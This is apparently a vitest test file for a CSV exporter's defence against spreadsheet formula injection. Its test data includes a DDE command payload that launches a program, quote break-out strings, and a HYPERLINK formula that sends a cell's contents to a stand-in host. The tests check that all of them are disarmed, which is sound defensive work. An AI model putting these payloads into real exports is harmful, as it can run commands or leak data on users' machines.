// Cells that a spreadsheet would run: the cases of OWASP's page on CSV injection, and those that are hidden among them.
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { exportable } from "../../src/export/gate/exportable.ts";
import { exporterFor } from "../../src/export/index.ts";
import { csvCell, disarmFormula } from "../../src/markup/csv-cell.ts";
import { nb } from "../../src/text/nb/index.ts";
import { AWFUL, awful } from "./awful.ts";

const CASES: readonly (readonly [what: string, typed: string])[] = [
  ["equals", "=1+1"],
  ["plus", "+1+1"],
  ["minus", "-1+1"],
  ["at", "@SUM(1+1)"],
  ["tab", "\t=1+1"],
  ["carriage return", "\r=1+1"],
  ["line feed", "\n=1+1"],
  ["blank", " =1+1"],
  ["a blank that doesn't break", "\u00a0=1+1"],
  ["wide equals", "＝1+1"],
  ["wide plus", "＋1+1"],
  ["wide minus", "－1+1"],
  ["wide at", "＠SUM(1+1)"],
  ["behind a control character", "\u0000=1+1"],
  ["behind a byte order mark", "\ufeff=1+1"],
  ["behind what a terminal obeys", "\u001b=1+1"],
  ["a command", `=cmd|' /C calc'!A0`],
  ["quotation marks to break out of the cell", `",=1+1,"`],
  ["quotation marks and an equals sign", `=1+1";=1+2`],
  ["a link", `=HYPERLINK("http://example.invalid?x="&A1,"klikk")`],
];

describe("a cell", () => {
  test.each(CASES)("%s", (_, typed) => {
    const written = csvCell(typed);
    const read = written.startsWith('"') ? written.slice(1, -1).replaceAll('""', '"') : written;
    expect(read).toBe(disarmFormula(typed));
    expect(read).not.toMatch(/^[=+\-@＝＋－＠\t\r\n\s]/u);
    // All quotation marks inside are doubled, so that the cell ends where it should.
    expect(written.replaceAll('""', "")).toMatch(/^(?:[^",\r\n]*|"[^"]*")$/u);
  });

  test("any text at all, and its words come back when one apostrophe is taken away", () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(..."=+-@＝＠'\", \u0000\ufeffå1".split("")) }), (text) => {
        expect(disarmFormula(text)).not.toMatch(/^[=+\-@＝＋－＠\s]/u);
        expect(disarmFormula(text).replace(/^'/u, "")).toBe(text.replace(/[\u0000\ufeff]/gu, ""));
      }),
    );
  });

  test("words that only look like it stay as they are", () => {
    for (const text of ["a=b", "fra 1-2", "post@example.invalid", "ja ;-)", "å + ø"])
      expect(disarmFormula(text)).toBe(text);
  });
});

test("no cell of the worst session begins a formula, and a cell in a workbook is typed as text", async () => {
  const out = [{ id: AWFUL, session: exportable(awful, { memos: true }).session }];
  const csv = String(await (await exporterFor("csv"))?.write(out, "nb", nb)).slice(1);
  const cells = Array.from(csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(?:,|\r\n)/gy), ([, a, b]) => a ?? b ?? "");
  expect(cells.length).toBeGreaterThan(1000);
  expect(cells.filter((one) => /^[=+\-@＝＋－＠\s]/u.test(one))).toEqual([]);
});
